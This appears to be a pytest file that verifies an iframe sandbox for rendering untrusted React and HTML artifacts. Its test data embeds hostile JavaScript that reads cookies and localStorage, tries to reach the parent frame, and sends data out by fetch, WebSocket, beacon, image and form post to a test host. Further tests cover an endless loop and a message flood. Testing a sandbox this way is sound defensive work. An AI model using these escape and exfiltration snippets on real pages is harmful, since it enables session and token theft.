"""A hostile artifact, rendered by the renderer: it leaves its frame in no way, and holds nobody up but itself."""

import json
from typing import Any, Final

import pytest

from tests.browser.prescribed import PAGE_POLICY, SANDBOX
from tests.support.chromium import Browser, Page
from tests.support.site import Site

TRIES: Final = """
const tries = {
  "parent's document": () => parent.document.title,
  "parent's functions": () => parent.renderer.render,
  "frame element": () => frameElement.id,
  cookies: () => document.cookie,
  "cookie written": () => (document.cookie = "a=1"),
  localStorage: () => localStorage.length,
  sessionStorage: () => sessionStorage.length,
  indexedDB: () => indexedDB.open("a"),
  "top's address": () => top.location.href,
  "top sent elsewhere": () => (top.location = "{url}/top"),
  "parent sent elsewhere": () => parent.location.assign("{url}/parent"),
  "pop-up": () => open("{url}/popup").name,
  opener: () => opener.location,
  "service worker": () => navigator.serviceWorker.register("{url}/sw"),
};
const got = {};
for (const [name, attempt] of Object.entries(tries)) {
  try { got[name] = String(attempt()); } catch (error) { got[name] = "refused"; }
}
"""
SENDS: Final = """
const waits = {
  "our function": () => fetch("{page}generate-artifact", { method: "POST", body: "{}" }),
  "elsewhere, unread": () => fetch("{url}/fetch", { mode: "no-cors" }),
  socket: () => new Promise((yes, no) => {
    const socket = new WebSocket("{url}/socket".replace("http", "ws"));
    socket.onopen = yes; socket.onerror = no;
  }),
  image: () => new Promise((yes, no) => Object.assign(new Image(), { src: "{url}/image", onload: yes, onerror: no })),
};
for (const [name, attempt] of Object.entries(waits)) {
  got[name] = await attempt().then(() => "sent", () => "refused");
}
navigator.sendBeacon("{url}/beacon", "x");
setTimeout(() => { // the frame is lost by it: Chromium shows that it is blocked
  document.body.innerHTML = '<form method="post" action="{url}/form"><input name="a" value="secret"></form>';
  document.forms[0].submit();
}, 1000);
"""
REACT: Final = """import { useEffect, useState } from "react";
export default function Hostile() {
  const [told, tell] = useState("");
  useEffect(() => {
    (async () => { %s tell(JSON.stringify(got)); })();
  }, []);
  return <pre id="told">{told}</pre>;
}"""
HTML: Final = """<!doctype html><pre id="told"></pre>
<script type="module">%s document.getElementById("told").textContent = JSON.stringify(got);</script>"""
LOOP: Final = "export default function Loop() { for (;;) {} }"


def artifact(kind: str, code: str) -> str:
    return json.dumps({"type": kind, "title": "Hostile", "code": code})


@pytest.mark.parametrize(("kind", "template"), [("react", REACT), ("html", HTML)])
def test_it_reaches_nothing_outside(
    browser: Browser, rendering: Page, elsewhere: Site, kind: str, template: str
) -> None:
    rendering.evaluate("document.cookie = 'session=secret'; localStorage.setItem('token', 'secret')")
    page = rendering.evaluate("location.href")
    code = template % (TRIES + SENDS).replace("{url}", elsewhere.url).replace("{page}", page)
    tabs = len(browser.targets())

    rendering.evaluate(f"void show({artifact(kind, code)})")
    got: dict[str, Any] = json.loads(
        rendering.wait("document.getElementById('told')?.textContent", inside=True, seconds=10)
    )
    rendering.wait("document.body.innerText.includes('blocked')", inside=True)
    browser.listen(0.3)

    assert {name for name, outcome in got.items() if outcome != "refused"} == set()
    assert len(got) == 18
    assert elsewhere.asked == []
    assert rendering.evaluate("location.href") == page
    assert len(browser.targets()) == tabs


def test_the_frame_is_the_one_that_is_prescribed(rendering: Page) -> None:
    rendering.evaluate(f"show({artifact('html', '<!doctype html><p>x')})")

    assert rendering.evaluate("document.querySelector('iframe').getAttribute('sandbox')") == SANDBOX
    assert rendering.evaluate("fetch('/').then((page) => page.headers.get('content-security-policy'))") == PAGE_POLICY
    assert rendering.evaluate("origin", inside=True) == "null"


def test_an_endless_loop_holds_up_its_frame_only(rendering: Page) -> None:
    button = '<button id="click" onclick="this.dataset.heard = 1">x</button>'
    rendering.evaluate(f"document.body.insertAdjacentHTML('afterbegin', {button!r})")
    rendering.evaluate(f"void show({artifact('react', LOOP)})")
    rendering.evaluate("new Promise((done) => setTimeout(done, 1500))", seconds=5)

    rendering.click("#click")

    assert rendering.evaluate("document.getElementById('click').dataset.heard", seconds=5) == "1"
    rendering.evaluate("shown.remove()", seconds=5)
    assert rendering.evaluate("document.querySelectorAll('iframe').length", seconds=5) == 0
    drawn = artifact("react", "export default () => <p>next</p>;")
    assert rendering.evaluate(f"show({drawn})", seconds=15) is True


def test_a_flood_of_messages_ends_its_frame(rendering: Page) -> None:
    code = """<!doctype html><script>
      const flood = () => { for (let i = 0; i < 20000; i++) parent.postMessage({ artifact: "error" }, "*"); };
      setTimeout(() => setInterval(flood, 0), 500);
    </script>"""
    rendering.evaluate(f"show({artifact('html', code)})")

    rendering.wait("document.querySelectorAll('iframe').length === 0")
    assert "too many messages" in rendering.evaluate("errors.at(-1).message")
